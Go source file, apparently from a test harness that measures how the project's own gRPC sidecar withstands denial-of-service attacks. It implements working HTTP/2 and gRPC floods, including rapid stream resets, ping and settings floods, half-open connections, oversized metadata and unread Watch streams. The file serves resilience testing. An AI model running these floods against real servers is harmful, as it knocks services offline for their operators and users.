package main

import (
	"context"
	"fmt"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	healthpb "google.golang.org/grpc/health/grpc_health_v1"
)

const (
	watchMethod  = "/grpc.health.v1.Health/Watch"
	streamMethod = "/landmark.intake.v1.IntakeService/Stream"
)

// grpcAttacks are what any host can send to the gRPC port.
func grpcAttacks() []attack {
	network := func(name, what string, seconds time.Duration) attack {
		return attack{name: "gRPC: " + name, what: what, who: "network", measured: true, play: func(s *scene) {
			s.startPair()
			s.attack(name, s.sidecar.grpc, attackerUID)
			s.runFor(seconds*time.Second/2, 4*seconds*time.Second)
		}}
	}
	return []attack{
		network("long names", "10 connections Watch 90 names of 65 kB each", 4),
		network("unfinished requests", "20 connections begin 500 requests and send all of each but its last byte", 5),
		network("rapid reset", "20 connections begin requests and reset them", 4),
		network("metadata", "20 connections begin 500 requests with 60 kB of metadata each", 5),
		network("pings", "20 connections send pings and read nothing", 3),
		network("settings", "20 connections send settings and read nothing", 3),
		network("half-open", "500 connections send half of the preface", 3),
		network("deaf watch", "20 connections Watch 300 names each and read nothing", 3),
		network("small headers", "384 connections Watch 8 names with 100 small headers each and read nothing", 3),
	}
}

// eachClient connects n clients, and calls f with each. It connects again whenever f
// returns.
func eachClient(ctx context.Context, n int, target string, unread bool, f func(c *client)) error {
	return each(ctx, n, func(ctx context.Context, _ int) {
		c, err := newClient(ctx, target, unread)
		if err != nil {
			return
		}
		defer c.Close()
		f(c)
	})
}

// watchLongNames holds Watches of names of the greatest length.
func watchLongNames(ctx context.Context, target string) error {
	return each(ctx, 10, func(ctx context.Context, i int) {
		conn, err := grpc.NewClient("passthrough:///"+target, grpc.WithTransportCredentials(insecure.NewCredentials()),
			grpc.WithContextDialer(func(ctx context.Context, address string) (net.Conn, error) { return dialFromAttacker(ctx, address) }))
		if err != nil {
			return
		}
		defer conn.Close()
		name := strings.Repeat(string(rune('a'+i)), 65000)
		ended := make(chan error, 90)
		for range 90 {
			stream, err := healthpb.NewHealthClient(conn).Watch(ctx, &healthpb.HealthCheckRequest{Service: name})
			if err != nil {
				return
			}
			go func() {
				for err == nil {
					_, err = stream.Recv()
				}
				ended <- err
			}()
		}
		<-ended
	})
}

// sendUnfinishedRequests sends large requests without their last byte.
func sendUnfinishedRequests(ctx context.Context, target string) error {
	return unfinished(ctx, target, watchMethod, 20, 500, message(60_000, 59_999))
}

// unfinished begins a number of requests with the data on each of several
// connections.
func unfinished(ctx context.Context, target, method string, connections, streams int, part []byte) error {
	return eachClient(ctx, connections, target, false, func(c *client) {
		for range streams {
			stream, err := c.headers(method)
			if err != nil {
				return
			}
			// Send what the stream's window allows.
			c.data(stream, part, 100*time.Millisecond)
		}
		c.wait()
	})
}

// resetRapidly begins requests and resets them at once.
func resetRapidly(ctx context.Context, target string) error {
	return eachClient(ctx, 20, target, false, func(c *client) {
		for {
			stream, err := c.headers(watchMethod)
			if err != nil || c.framer.WriteRSTStream(stream, http2.ErrCodeCancel) != nil {
				return
			}
		}
	})
}

// sendMetadata begins requests with as much metadata as servers usually accept.
func sendMetadata(ctx context.Context, target string) error {
	return eachClient(ctx, 20, target, false, func(c *client) {
		value := strings.Repeat("x", 6000)
		var fields []string
		for i := range 10 {
			fields = append(fields, "x-"+string(rune('a'+i)), value)
		}
		for range 500 {
			if _, err := c.headers(watchMethod, fields...); err != nil {
				return
			}
		}
		c.wait()
	})
}

// floodPings sends pings and reads no answer.
func floodPings(ctx context.Context, target string) error {
	return floodWithoutReading(ctx, target, func(c *client) error { return c.framer.WritePing(false, [8]byte{}) })
}

// floodSettings sends settings and reads no acknowledgement.
func floodSettings(ctx context.Context, target string) error {
	return floodWithoutReading(ctx, target, func(c *client) error {
		return c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20})
	})
}

func floodWithoutReading(ctx context.Context, target string, send func(c *client) error) error {
	return eachClient(ctx, 20, target, true, func(c *client) {
		for send(c) == nil {
		}
	})
}

// holdHalfOpen holds connections that send half of the HTTP/2 preface.
func holdHalfOpen(ctx context.Context, target string) error {
	return each(ctx, 500, func(ctx context.Context, _ int) {
		hold(ctx, target, http2.ClientPreface[:12])
	})
}

// watchWithoutReading begins Watches and reads nothing.
func watchWithoutReading(ctx context.Context, target string) error {
	return holdUnreadWatches(ctx, target, 20, 300)
}

// watchWithSmallHeaders does so with many header fields, each of which costs the sender a
// byte or two and the server more.
func watchWithSmallHeaders(ctx context.Context, target string) error {
	var fields []string
	for i := range 100 {
		fields = append(fields, fmt.Sprintf("x%02d", i), "v")
	}
	return holdUnreadWatches(ctx, target, 384, 8, fields...)
}

// holdUnreadWatches begins Watches with further header fields on each of several
// connections, and reads nothing.
func holdUnreadWatches(ctx context.Context, target string, connections, watches int, fields ...string) error {
	return eachClient(ctx, connections, target, true, func(c *client) {
		for range watches {
			stream, err := c.headers(watchMethod, fields...)
			if err != nil {
				return
			}
			if c.framer.WriteData(stream, true, message(0, 0)) != nil {
				return
			}
		}
		<-ctx.Done()
	})
}
